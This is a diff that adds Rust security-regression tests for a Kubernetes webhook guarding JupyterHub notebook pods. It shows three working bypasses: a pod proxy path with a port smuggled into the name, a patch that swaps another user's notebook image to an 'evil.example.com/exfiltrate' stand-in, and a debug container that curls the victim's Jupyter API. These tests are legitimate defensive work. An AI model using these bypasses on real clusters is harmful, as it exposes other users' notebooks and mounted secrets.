@@ -1,0 +1,171 @@
+//! Attacks that still succeed through the real API server (a security review of the guard). Each
+//! test asserts what the guard should do, so it FAILS while the hole is open.
+
+mod support;
+
+use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
+use kube::api::{ObjectMeta, Patch, PatchParams, PostParams};
+use kube::{Api, Client};
+use serde_json::json;
+use support::env::*;
+use support::webhook::*;
+
+/// Lets every authenticated user open connections into pods of the namespace, as `edit` does.
+async fn allow_connections(admin: &Client, ns: &str) {
+    let role = Role {
+        metadata: ObjectMeta {
+            name: Some("connect".into()),
+            ..Default::default()
+        },
+        rules: Some(vec![PolicyRule {
+            api_groups: Some(vec!["".into()]),
+            resources: Some(
+                ["pods/exec", "pods/attach", "pods/portforward", "pods/proxy"]
+                    .map(String::from)
+                    .to_vec(),
+            ),
+            verbs: ["get", "create"].map(String::from).to_vec(),
+            ..Default::default()
+        }]),
+    };
+    Api::<Role>::namespaced(admin.clone(), ns)
+        .create(&PostParams::default(), &role)
+        .await
+        .expect("Role");
+    let binding = RoleBinding {
+        metadata: ObjectMeta {
+            name: Some("connect".into()),
+            ..Default::default()
+        },
+        role_ref: RoleRef {
+            api_group: "rbac.authorization.k8s.io".into(),
+            kind: "Role".into(),
+            name: "connect".into(),
+        },
+        subjects: Some(vec![Subject {
+            kind: "Group".into(),
+            name: "system:authenticated".into(),
+            api_group: Some("rbac.authorization.k8s.io".into()),
+            namespace: None,
+        }]),
+    };
+    Api::<RoleBinding>::namespaced(admin.clone(), ns)
+        .create(&PostParams::default(), &binding)
+        .await
+        .expect("RoleBinding");
+}
+
+async fn get_text(client: &Client, path: &str) -> String {
+    let mut request = kube::core::Request::new("/api/v1/namespaces/x/pods")
+        .get_subresource("proxy", "x")
+        .expect("request");
+    *request.uri_mut() = path.parse().expect("uri");
+    match client.request_text(request).await {
+        Ok(text) => text,
+        Err(e) => e.to_string(),
+    }
+}
+
+/// `kubectl get --raw /api/v1/namespaces/NS/pods/jupyter-alice:8888/proxy/api/contents/`: the
+/// API server hands the webhook the name `jupyter-alice:8888` (scheme/name/port as the proxy
+/// path carries them). The webhook GETs a pod of that name, finds none, and allows; the API
+/// server then splits off the port and proxies to alice's Jupyter (bypassing an oauth-proxy).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attack_pods_proxy_with_a_port_in_the_name_skips_the_connect_guard() {
+    let env = Env::start().await;
+    allow_connections(&env.admin, env.ns.name()).await;
+    env.pods_as(HUB)
+        .create(
+            &PostParams::default(),
+            &notebook_pod("jupyter-alice", "alice", &[]),
+        )
+        .await
+        .expect("alice's notebook");
+    let ns = env.ns.name();
+    let bob = env.cluster.client_as("bob", &[]);
+    // The plain name is refused (as e2e_guard checks).
+    let plain = get_text(&bob, &format!("/api/v1/namespaces/{ns}/pods/jupyter-alice/proxy/")).await;
+    assert!(plain.contains("notebook of user 'alice'"), "{plain}");
+    let mut admitted = Vec::new();
+    for name in [
+        "jupyter-alice:8888",
+        "http:jupyter-alice:8888",
+        "https:jupyter-alice:",
+        "jupyter-alice:",
+    ] {
+        let text = get_text(&bob, &format!("/api/v1/namespaces/{ns}/pods/{name}/proxy/api/contents/")).await;
+        if !text.contains("notebook of user 'alice'") {
+            admitted.push(format!("{name}: {text}"));
+        }
+    }
+    env.stop().await;
+    assert!(
+        admitted.is_empty(),
+        "bob's proxy requests into alice's notebook passed the connect webhook (they failed later only for want of a node):\n{}",
+        admitted.join("\n")
+    );
+}
+
+/// `kubectl set image pod/jupyter-alice notebook=evil` as bob: the API server allows changing a
+/// container's image, the kubelet restarts the container with bob's image and alice's mounts.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attack_pod_update_swaps_the_image_of_another_users_notebook() {
+    let env = Env::start().await;
+    env.pods_as(HUB)
+        .create(
+            &PostParams::default(),
+            &notebook_pod("jupyter-alice", "alice", &[("notebook-volumes.io/secret-shares", "mergers")]),
+        )
+        .await
+        .expect("alice's notebook");
+    let swap = json!({"spec": {"containers": [{"name": "notebook", "image": "evil.example.com/exfiltrate:latest"}]}});
+    let result = env
+        .pods_as_user("bob", &[])
+        .patch(
+            "jupyter-alice",
+            &PatchParams::default(),
+            &Patch::Strategic(&swap),
+        )
+        .await;
+    env.stop().await;
+    match result {
+        Err(kube::Error::Api(status)) => {
+            assert!(status.code == 403, "{status:?}");
+        }
+        Err(e) => panic!("unexpected error {e}"),
+        Ok(pod) => panic!(
+            "bob swapped the image of alice's notebook (secret share mergers mounted): now {:?}",
+            pod.spec.unwrap().containers[0].image
+        ),
+    }
+}
+
+/// `kubectl debug jupyter-alice --image=curl -- curl localhost:8888/...` as bob, without
+/// `--target`: the debug container joins the notebook's network namespace and may mount its
+/// emptyDir/Secret/projected volumes.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attack_untargeted_debug_container_in_another_users_notebook() {
+    let env = Env::start().await;
+    env.pods_as(HUB)
+        .create(
+            &PostParams::default(),
+            &notebook_pod("jupyter-alice", "alice", &[]),
+        )
+        .await
+        .expect("alice's notebook");
+    let patch = json!({"spec": {"ephemeralContainers": [{"name": "peek", "image": "curlimages/curl", "command": ["curl", "http://127.0.0.1:8888/api/contents/"]}]}});
+    let result = env
+        .pods_as_user("bob", &[])
+        .patch_subresource(
+            "ephemeralcontainers",
+            "jupyter-alice",
+            &PatchParams::default(),
+            &Patch::Strategic(patch),
+        )
+        .await;
+    env.stop().await;
+    assert!(
+        result.is_err(),
+        "bob added a debug container to alice's notebook (her network namespace and volumes)"
+    );
+}
